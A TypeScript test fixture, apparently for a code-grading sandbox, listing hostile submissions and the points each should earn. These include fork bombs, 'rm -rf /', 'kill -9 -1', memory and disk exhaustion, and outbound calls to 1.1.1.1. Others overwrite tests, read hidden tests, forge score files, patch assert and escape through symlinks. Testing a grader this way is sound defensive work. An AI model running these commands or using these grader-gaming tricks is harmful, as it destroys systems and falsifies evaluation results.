// Submissions of a class that mean harm: to the machine, to the grader, to the others. What each gets is its own affair.
import { execFileSync } from 'node:child_process'
import { mkdirSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { ROOT } from '@pocker/grader'
import { fill, RIGHT } from './class.ts'

export interface Attack {
  readonly what: string
  readonly earned: number
  /** It races with itself: what of it is seen first, nobody can say. So that is the most it gets. */
  readonly races?: true
  /** What one of the messages must say. */
  readonly says?: RegExp
  /** The text of hostname.ts, or what fills the folder. */
  readonly answer?: string
  readonly files?: (folder: string) => void
}

/** Every module of node, past the imports that are refused. */
const NODE = "const node = (name: string): any => (process as any).getBuiltinModule('node:' + name)\n"
/** Code that runs first, and a right answer: if it gets all points, the attack was in vain. */
const first = (code: string): string => `${NODE}${RIGHT}${code}`
const tried = (code: string): string => first(`try { ${code} } catch {}`)
/** Steps before the right one. */
const steps = (...list: string[]): string =>
  `import { clone3 } from '@pocker/syscalls'
  export const hostname = (name: string): any => ({ name, flags: 0x4000000n, child: [${list.join(', ')}, { call: 'sethostname', args: [name, Buffer.byteLength(name)] }] })`
const shell = (script: string, more = ''): string => `{ call: 'execve', args: ['/bin/sh', ['/bin/sh', '-c', ${JSON.stringify(script)}], []]${more} }`
/** A child of PID 1's container that does this. */
const beside = (script: string): string => `clone3(0n, [${shell(script)}, { call: 'exit_group', args: [0] }])`

const SOLUTION = join(ROOT, 'solutions/02-uts/hostname.ts')

export const ATTACKS: readonly Attack[] = [
  { what: 'forks in node without end', earned: 4, answer: tried("for (;;) node('child_process').fork('/answer.mjs')") },
  { what: 'starts threads without end', earned: 4, answer: tried("for (;;) new (node('worker_threads').Worker)('for(;;);', { eval: true })") },
  {
    what: 'is a fork bomb of system calls', earned: 4, races: true,
    answer: steps(...Array.from({ length: 24 }, () => '(({ onZero, ...rest }) => rest)(clone3(0n, []))')),
  },
  { what: 'is a fork bomb of shells', earned: 0, says: /did not reach|ended before/, answer: steps(shell('b() { b | b & }; b; sleep 100')) },
  { what: 'takes all memory of node', earned: 0, says: /takes all memory|allocation failed/, answer: first('const a: any[] = []; for (;;) a.push(Buffer.alloc(1 << 26, 1))') },
  { what: 'takes all memory of a heap', earned: 0, says: /takes all memory|did not return/, answer: first('const a: any[] = []; for (;;) a.push({ a })') },
  {
    what: 'fills a file system in memory', earned: 0, says: /ended before|did not reach/,
    answer: steps(
      "{ call: 'unshare', args: [0x20000n] }", "{ call: 'mount', args: ['tmpfs', '/tmp', 'tmpfs', 0, 'size=90%'] }",
      shell('dd if=/dev/zero of=/tmp/a bs=1M; dd if=/proc/self/mem of=/tmp/b bs=1M; while :; do cat /bin/busybox >> /tmp/c; done')),
  },
  { what: 'fills the disk from node', earned: 4, answer: tried("for (;;) node('fs').appendFileSync('/tmp/pocker-forged', 'x'.repeat(1 << 20))") },
  {
    what: 'has files where folders should be', earned: 4,
    files: (folder) => fill(folder, { 'exercises': '', '02-uts': '', 'hostname.ts': RIGHT }),
  },
  {
    what: 'is one among too many files', earned: 4,
    files: (folder) => fill(folder, {
      ...Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`aa/${i}.json`, '{}'])), 'ab.ts': RIGHT, 'hostname.ts': "export * from './ab.ts'",
    }),
  },
  {
    what: 'has a file whose name is no text', earned: 4, answer: RIGHT,
    files: (folder) => writeFileSync(Buffer.concat([Buffer.from(`${folder}/`), Buffer.from([0xff]), Buffer.from('.ts')]), ''),
  },
  {
    what: 'says what would clear a screen and write points there', earned: 0, says: /^hostname\(\) threw Error: \\u\{1b\}\[2J\\n4 of 4 \\u\{202e\}$/,
    answer: "export const hostname = () => { throw new Error('\\x1b[2J\\n4 of 4 \\u202e') }",
  },
  {
    what: 'has a long story to tell', earned: 0, says: /^hostname\(\) threw Error: x{1500,2000}… \(\d+ characters\)$/,
    answer: "export const hostname = () => { throw new Error('x'.repeat(900_000)) }",
  },
  { what: 'never ends', earned: 0, says: /did not return within/, answer: first('for (;;);') },
  { what: 'sleeps for ever', earned: 0, says: /did not return within/, answer: first('await new Promise((go) => setTimeout(go, 1e8))') },
  { what: 'prints without end', earned: 0, says: /printed more than|takes all memory/, answer: first("for (;;) await new Promise<void>((go) => process.stdout.write('x'.repeat(65536), () => go()))") },
  { what: 'floods from the container', earned: 0, says: /did not reach|ended before/, answer: steps(shell('yes')) },
  { what: 'ends node with success', earned: 0, says: /ended node/, answer: first('process.exit(0)') },
  {
    what: 'patches assert and what is global', earned: 0, says: /returned no isolation|wrote over/,
    answer: `${NODE}for (const of of [Object, Array, JSON, Set, Map, Math, Promise, process] as any[]) for (const name of Object.getOwnPropertyNames(of.prototype ?? of)) {
      if (!/constructor|then|catch|write|stringify|on|emit/.test(name)) try { (of.prototype ?? of)[name] = () => true } catch {} }
    try { node('assert').ok = node('assert').equal = () => {} } catch {}
    export const hostname = () => ({ verdict: 'pass', earned: 4 })`,
  },
  { what: 'writes over the tests', earned: 4, answer: tried(`node('fs').writeFileSync('${join(ROOT, 'exercises/02-uts/hostname.test.ts')}', '')`) },
  { what: 'reads the hidden tests', earned: 0, says: /ERR_ACCESS_DENIED|restricted|ENOENT/, answer: first(`throw new Error(node('fs').readFileSync('${join(ROOT, 'solutions/02-uts/hidden.test.ts')}', 'utf8'))`) },
  { what: 'imports the solution', earned: 0, says: /may not import/, answer: `export * from '${SOLUTION}'` },
  { what: 'imports it when it runs', earned: 0, says: /threw|may not import|returned no isolation/, answer: `const path = '${SOLUTION}'; const { hostname: h } = await import(path); export const hostname = h` },
  {
    what: 'forges its result', earned: 0, says: /returned no isolation/,
    answer: `${NODE}for (const at of ['.', '/', '/tmp', '${ROOT}']) try { node('fs').writeFileSync(at + '/results.json', '{"score": 4}') } catch {}
      console.log('{"schema":"pocker/result/v1","report":{"earned":4}}'); export const hostname = () => 4`,
  },
  {
    what: 'speaks to the grader\'s descriptors', earned: 4,
    answer: tried("for (const fd of [0, 2]) try { node('fs').writeSync(fd, '{\"ready\":true}\\n') } catch {}"),
  },
  { what: 'kills its parent', earned: 4, answer: tried("for (const pid of [process.ppid, 0 - 1, 1]) if (pid !== process.pid) try { process.kill(pid, 'SIGKILL') } catch {}") },
  {
    what: 'kills its process group, again and again', earned: 0, says: /did not return within/,
    answer: first("for (;;) process.kill(0, 'SIGKILL')"), // process 1 of a namespace does not hear itself
  },
  { what: 'kills its process group from the container', earned: 0, says: /ended before/, answer: steps(shell('kill -9 0; exit 0')) },
  { what: 'kills everybody from the container', earned: 0, says: /ended before/, answer: steps(shell('kill -9 -1; kill -9 1; exit 0')) },
  {
    what: 'calls home from node', earned: 4,
    answer: tried("await new Promise((go) => node('net').connect(53, '1.1.1.1').on('connect', () => process.exit(7)).on('error', go))"),
  },
  {
    what: 'calls home from the container', earned: 4,
    answer: steps(
      "{ call: 'socket', args: [2, 1, 0], as: 's', mayFail: true }", beside('wget -T 2 -q -O /tmp/x http://1.1.1.1/')),
  },
  {
    what: 'mounts over everything', earned: 0, says: /./,
    answer: steps(...['/proc', '/tmp', '/bin', '/'].map((at) => `{ call: 'mount', args: ['tmpfs', '${at}', 'tmpfs', 0, null], mayFail: true }`)),
  },
  {
    what: 'writes into the file system of all', earned: 4,
    answer: steps(
      "{ call: 'mount', args: [null, '/', null, 0x1020, null], mayFail: true }",
      beside('rm -rf /bin/ls /pocker-forged; echo x > /bin/pocker-forged; echo x > /pocker-forged')),
  },
  { what: 'leaves a daemon behind', earned: 4, answer: steps(beside('setsid sh -c "trap : HUP TERM; while :; do sleep 1; done" & exit 0')) },
  {
    what: 'links out of its folder', earned: 0, says: /got a symbolic link/,
    files: (folder) => symlinkSync(SOLUTION, join(folder, 'hostname.ts')),
  },
  {
    what: 'links a folder out of its own', earned: 0, says: /got a symbolic link: exercises/,
    files: (folder) => symlinkSync(join(ROOT, 'solutions'), join(folder, 'exercises')),
  },
  {
    what: 'imports through a link', earned: 0, says: /Could not resolve|only files beside it/,
    files(folder) {
      fill(folder, { 'hostname.ts': "export * from './beside.ts'\n" })
      symlinkSync(SOLUTION, join(folder, 'beside.ts'))
    },
  },
  { what: 'deletes its own folder', earned: 4, answer: tried("node('fs').rmSync('.', { recursive: true, force: true }); node('fs').rmSync('/', { recursive: true, force: true })") },
  { what: 'tampers with PATH', earned: 4, answer: first("process.env.PATH = '/tmp'; process.env.NODE_OPTIONS = '--require /tmp/x.js'; (globalThis as any).PATH = '/tmp'") },
  {
    what: 'is a huge file', earned: 0, says: /expected at most 262144 bytes, got 1073741824/,
    files(folder) {
      writeFileSync(join(folder, 'hostname.ts'), RIGHT)
      truncateSync(join(folder, 'hostname.ts'), 1 << 30)
    },
  },
  {
    what: 'has a huge file beside it', earned: 0, says: /Could not resolve/,
    files(folder) {
      fill(folder, { 'hostname.ts': "import './big.ts'\n", 'big.ts': '' })
      truncateSync(join(folder, 'big.ts'), 1 << 30)
    },
  },
  { what: 'is a FIFO', earned: 0, says: /got something else/, files: (folder) => void execFileSync('mkfifo', [join(folder, 'hostname.ts')]) },
  { what: 'is a folder', earned: 0, says: /got something else/, files: (folder) => void mkdirSync(join(folder, 'hostname.ts')) },
  {
    what: 'is thousands of files', earned: 4,
    files: (folder) => fill(folder, { 'hostname.ts': RIGHT, ...Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`z${i % 9}/z${i}.ts`, ''])) }),
  },
  {
    what: 'pollutes prototypes', earned: 0, says: /./,
    answer: `for (const name of ['earned', 'verdict', 'points', 'flags', 'child', 'nonsense', 'error', 'isolation']) (Object.prototype as any)[name] = 4
      export const hostname = () => JSON.parse('{"__proto__": {"earned": 4, "verdict": "pass"}, "constructor": {"prototype": {"earned": 4}}}')`,
  },
  {
    what: 'brings a compiler\'s settings and packages of its own', earned: 4,
    files: (folder) => fill(folder, {
      'hostname.ts': RIGHT,
      'tsconfig.json': '{"compilerOptions": {"paths": {"@pocker/syscalls": ["./evil.ts"]}}}',
      'package.json': '{"imports": {"#x": "./evil.ts"}, "type": "commonjs", "browser": {"@pocker/syscalls": "./evil.ts"}}',
      'node_modules/@pocker/syscalls/package.json': '{"main": "./evil.js"}', 'node_modules/@pocker/syscalls/evil.js': 'process.exit(0)',
      'evil.ts': 'process.exit(0)',
    }),
  },
]
